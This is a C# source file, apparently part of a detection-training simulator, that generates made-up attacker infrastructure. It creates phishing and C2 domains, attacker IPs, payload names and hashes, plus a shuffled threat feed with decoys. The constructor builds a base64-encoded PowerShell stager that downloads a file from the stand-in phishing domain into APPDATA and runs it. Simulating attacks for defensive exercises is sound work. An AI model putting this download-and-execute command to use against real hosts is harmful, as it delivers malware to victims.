using System.Text;

namespace Vedette.Simulation;

/// <summary>The attackers' infrastructure in one run, and the threat feed that knows part of it.</summary>
internal sealed class Adversary
{
    private const int DecoyAddresses = 100;
    private const int DecoyDomains = 100;

    private static readonly IReadOnlyList<string> PhishingDomains =
        ["invoice-center.example.net", "billing-docs.example.org", "secure-payments-portal.example.com", "docs-share-online.example.net"];

    private static readonly IReadOnlyList<string> C2Domains =
        ["cdn-metrics-sync.example.org", "telemetry-update.example.net", "static-assets-cloud.example.com", "api-status-check.example.org"];

    private static readonly IReadOnlyList<string> PayloadNames = ["OneDriveUpdater.exe", "WinSvcHost.exe", "AdobeSyncHelper.exe", "TeamsUpdate.exe"];

    private static readonly IReadOnlyList<string> DecoyWords =
    [
        "secure", "login", "account", "verify", "update", "cdn", "mail", "docs", "pay", "billing", "auth", "drive",
        "share", "portal", "sync", "files", "cloud", "office", "wallet", "track",
    ];

    private static readonly IReadOnlyList<string> DecoySuffixes = ["check", "service", "center", "online", "access", "gateway", "desk", "hub", "cdn", "box"];

    private static readonly IReadOnlyList<string> Tlds = ["example.com", "example.net", "example.org"];

    public Adversary(Internet internet, Dice dice)
    {
        PhishingDomain = dice.Pick(PhishingDomains);
        C2Domain = dice.Pick(C2Domains);
        PhishingSite = new Site(PhishingDomain, internet.ReserveAddress());
        C2Site = new Site(C2Domain, internet.ReserveAddress());
        SshAttackerIp = internet.ReserveAddress();
        RdpAttackerIp = internet.ReserveAddress();
        PayloadName = dice.Pick(PayloadNames);
        PayloadSha256 = dice.Hex(64);
        PayloadMd5 = dice.Hex(32);
        InvoiceNumber = dice.Between(1000, 9999);
        StagerUrl = $"http://{PhishingDomain}/documents/update.dat";
        var stager = $"$p=\"$env:APPDATA\\{PayloadName}\";(New-Object Net.WebClient).DownloadFile('{StagerUrl}',$p);Start-Process $p";
        StagerCommand = Convert.ToBase64String(Encoding.Unicode.GetBytes(stager));
        KnownBad = Feed(internet, dice);
    }

    public string PhishingDomain { get; }

    /// <summary>The phishing domain and where it resolves; the address is in the traffic but deliberately not in the feed.</summary>
    public Site PhishingSite { get; }

    public string C2Domain { get; }

    public Site C2Site { get; }

    public string C2Ip => C2Site.Ip;

    public string SshAttackerIp { get; }

    /// <summary>The RDP brute-forcer; not in the feed, so that its detection has to come from behaviour.</summary>
    public string RdpAttackerIp { get; }

    public string PayloadName { get; }

    /// <summary>Upper-case, as Sysmon writes it; the feed and the truth hold it in lower case.</summary>
    public string PayloadSha256 { get; }

    public string PayloadMd5 { get; }

    public int InvoiceNumber { get; }

    public string StagerUrl { get; }

    /// <summary>The base64 (UTF-16LE) PowerShell command the HTA runs to fetch the payload.</summary>
    public string StagerCommand { get; }

    public IReadOnlyList<string> KnownBad { get; }

    private List<string> Feed(Internet internet, Dice dice)
    {
        var feed = new List<string>(DecoyAddresses + DecoyDomains + 5)
        {
            PhishingDomain, C2Domain, C2Ip, PayloadSha256.ToLowerInvariant(), SshAttackerIp,
        };
        for (var i = 0; i < DecoyAddresses; i++)
        {
            feed.Add(internet.ReserveAddress());
        }
        var taken = new HashSet<string>(feed, StringComparer.Ordinal);
        var decoys = 0;
        while (decoys < DecoyDomains)
        {
            var domain = $"{dice.Pick(DecoyWords)}-{dice.Pick(DecoySuffixes)}{dice.Between(1, 99)}.{dice.Pick(Tlds)}";
            if (!internet.IsSiteDomain(domain) && taken.Add(domain))
            {
                feed.Add(domain);
                decoys++;
            }
        }
        // A feed lists its entries in no meaningful order; the real ones must not sit on top.
        dice.Shuffle(feed);
        return feed;
    }
}
